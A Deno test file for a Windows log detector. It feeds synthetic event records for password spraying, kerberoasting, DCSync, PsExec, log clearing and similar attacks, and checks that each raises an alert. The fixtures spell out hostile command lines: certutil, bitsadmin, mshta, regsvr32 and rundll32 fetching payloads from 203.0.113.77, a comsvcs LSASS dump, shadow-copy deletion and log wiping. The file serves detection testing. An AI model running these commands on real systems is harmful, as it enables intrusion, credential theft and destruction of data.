/** Attacks that no sample holds, on Windows and in its directory: each raises what it has to. */
import assert from "node:assert/strict";
import { alertsOf, atLeast, type Attack, EVIL, range, told, win } from "./logs.ts";

const ATTACKS: readonly Attack[] = [
  [
    "spraying windows",
    "medium",
    range(25).map((i) =>
      win(i * 30, "Security", 4625, {
        TargetUserName: `user${i}`,
        TargetDomainName: "CORP",
        LogonType: "3",
        IpAddress: "10.1.2.66",
        IpPort: "50122",
        Status: "0xc000006d",
        SubStatus: "0xc000006a",
        WorkstationName: "KALI",
      })
    ),
  ],
  [
    "spraying slow, one per 20 min, windows",
    "medium",
    range(25).map((i) =>
      win(i * 1200, "Security", 4625, {
        TargetUserName: `user${i}`,
        TargetDomainName: "CORP",
        LogonType: "3",
        IpAddress: "10.1.2.66",
        Status: "0xc000006d",
        SubStatus: "0xc000006a",
      })
    ),
  ],
  [
    "kerberos preauth spray 4771",
    "medium",
    range(25).map((i) =>
      win(i * 20, "Security", 4771, {
        TargetUserName: `user${i}`,
        ServiceName: "krbtgt/CORP",
        TicketOptions: "0x40810010",
        Status: "0x18",
        PreAuthType: "2",
        IpAddress: "::ffff:10.1.2.66",
        IpPort: "50122",
      }, "dc1.corp.example")
    ),
  ],
  [
    "lateral movement 4624 t3 many hosts",
    "medium",
    range(12).map((i) =>
      win(i * 20, "Security", 4624, {
        TargetUserName: "svc_backup",
        TargetDomainName: "CORP",
        LogonType: "3",
        IpAddress: "10.1.2.66",
        IpPort: "50122",
        AuthenticationPackageName: "NTLM",
        LogonProcessName: "NtLmSsp",
        WorkstationName: "PC66",
      }, `srv${i}.corp.example`)
    ),
  ],
  ["psexec 7045", "high", [
    win(0, "Security", 4624, {
      TargetUserName: "admin",
      TargetDomainName: "CORP",
      LogonType: "3",
      IpAddress: "10.1.2.66",
      IpPort: "50122",
    }),
    win(2, "System", 7045, {
      ServiceName: "PSEXESVC",
      ImagePath: "%SystemRoot%\\PSEXESVC.exe",
      ServiceType: "user mode service",
      StartType: "demand start",
      AccountName: "LocalSystem",
    }),
    win(4, "Security", 4688, {
      SubjectUserName: "SRV1$",
      NewProcessName: "C:\\Windows\\System32\\cmd.exe",
      CommandLine: "cmd.exe /c whoami",
      ParentProcessName: "C:\\Windows\\PSEXESVC.exe",
    }),
  ]],
  ["service with cmd echo pipe 7045", "high", [win(0, "System", 7045, {
    ServiceName: "BTOBTO",
    ImagePath:
      "%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat",
    ServiceType: "user mode service",
    StartType: "demand start",
    AccountName: "LocalSystem",
  })]],
  [
    "kerberoasting 4769 RC4",
    "medium",
    range(8).map((i) =>
      win(i * 2, "Security", 4769, {
        TargetUserName: "bob@CORP.EXAMPLE",
        ServiceName: `svc_sql${i}`,
        TicketEncryptionType: "0x17",
        TicketOptions: "0x40810000",
        IpAddress: "::ffff:10.1.2.66",
        Status: "0x0",
      }, "dc1.corp.example")
    ),
  ],
  [
    "AS-REP 4768 no preauth RC4",
    "medium",
    range(3).map((i) =>
      win(i * 2, "Security", 4768, {
        TargetUserName: `svc_old${i}`,
        TargetDomainName: "CORP",
        ServiceName: "krbtgt",
        TicketEncryptionType: "0x17",
        PreAuthType: "0",
        TicketOptions: "0x40800010",
        IpAddress: "::ffff:10.1.2.66",
        Status: "0x0",
      }, "dc1.corp.example")
    ),
  ],
  ["DCSync 4662", "high", [win(0, "Security", 4662, {
    SubjectUserName: "bob",
    SubjectDomainName: "CORP",
    ObjectServer: "DS",
    ObjectType: "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}",
    AccessMask: "0x100",
    Properties:
      "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}",
  }, "dc1.corp.example")]],
  ["log clear 1102", "high", [
    win(
      0,
      "Security",
      1102,
      { SubjectUserName: "bob", SubjectDomainName: "CORP" },
      "srv1.corp.example",
      "Microsoft-Windows-Eventlog",
    ),
  ]],
  ["wevtutil cl", "medium", [
    win(0, "Security", 4688, {
      SubjectUserName: "bob",
      NewProcessName: "C:\\Windows\\System32\\wevtutil.exe",
      CommandLine: "wevtutil cl Security",
      ParentProcessName: "C:\\Windows\\System32\\cmd.exe",
    }),
  ]],
  ["certutil download", "medium", [win(0, "Security", 4688, {
    SubjectUserName: "bob",
    NewProcessName: "C:\\Windows\\System32\\certutil.exe",
    CommandLine: "certutil -urlcache -split -f http://203.0.113.77/a.exe C:\\Users\\Public\\a.exe",
    ParentProcessName: "C:\\Windows\\System32\\cmd.exe",
  })]],
  ["mshta", "medium", [
    win(0, "Security", 4688, {
      SubjectUserName: "bob",
      NewProcessName: "C:\\Windows\\System32\\mshta.exe",
      CommandLine: "mshta http://203.0.113.77/a.hta",
      ParentProcessName: "C:\\Windows\\explorer.exe",
    }),
  ]],
  ["regsvr32 squiblydoo", "medium", [
    win(0, "Security", 4688, {
      SubjectUserName: "bob",
      NewProcessName: "C:\\Windows\\System32\\regsvr32.exe",
      CommandLine: "regsvr32 /s /n /u /i:http://203.0.113.77/a.sct scrobj.dll",
      ParentProcessName: "C:\\Windows\\System32\\cmd.exe",
    }),
  ]],
  ["rundll32 javascript", "medium", [win(0, "Security", 4688, {
    SubjectUserName: "bob",
    NewProcessName: "C:\\Windows\\System32\\rundll32.exe",
    CommandLine:
      'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://203.0.113.77/a")',
    ParentProcessName: "C:\\Windows\\System32\\cmd.exe",
  })]],
  ["comsvcs lsass dump", "high", [win(0, "Security", 4688, {
    SubjectUserName: "bob",
    NewProcessName: "C:\\Windows\\System32\\rundll32.exe",
    CommandLine:
      "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full",
    ParentProcessName: "C:\\Windows\\System32\\cmd.exe",
  })]],
  ["bitsadmin", "medium", [win(0, "Security", 4688, {
    SubjectUserName: "bob",
    NewProcessName: "C:\\Windows\\System32\\bitsadmin.exe",
    CommandLine:
      "bitsadmin /transfer j /download /priority high http://203.0.113.77/a.exe C:\\Users\\Public\\a.exe",
    ParentProcessName: "C:\\Windows\\System32\\cmd.exe",
  })]],
  ["wmic remote process", "medium", [
    win(0, "Security", 4688, {
      SubjectUserName: "bob",
      NewProcessName: "C:\\Windows\\System32\\wbem\\WMIC.exe",
      CommandLine: 'wmic /node:10.1.2.5 process call create "cmd /c whoami"',
      ParentProcessName: "C:\\Windows\\System32\\cmd.exe",
    }),
  ]],
  ["schtasks persistence 4698", "medium", [
    win(0, "Security", 4698, {
      SubjectUserName: "bob",
      TaskName: "\\Updater",
      TaskContent:
        "<Task><Actions><Exec><Command>powershell</Command><Arguments>-w hidden -enc SQBFAFgA</Arguments></Exec></Actions></Task>",
    }),
  ]],
  ["vssadmin delete", "high", [
    win(0, "Security", 4688, {
      SubjectUserName: "bob",
      NewProcessName: "C:\\Windows\\System32\\vssadmin.exe",
      CommandLine: "vssadmin delete shadows /all /quiet",
      ParentProcessName: "C:\\Windows\\System32\\cmd.exe",
    }),
  ]],
  [
    "ransom note: many failures RDP gateway",
    "medium",
    range(12).map((i) =>
      win(i * 10, "Security", 4625, {
        TargetUserName: "administrator",
        LogonType: "10",
        IpAddress: EVIL,
        Status: "0xc000006d",
        SubStatus: "0xc000006a",
      })
    ),
  ],
];

for (const [name, least, lines] of ATTACKS) {
  Deno.test(`${name}: ${least} or more`, () => {
    const alerts = alertsOf(lines);
    assert.ok(alerts.some((a) => atLeast(a.severity, least)), told(alerts));
  });
}
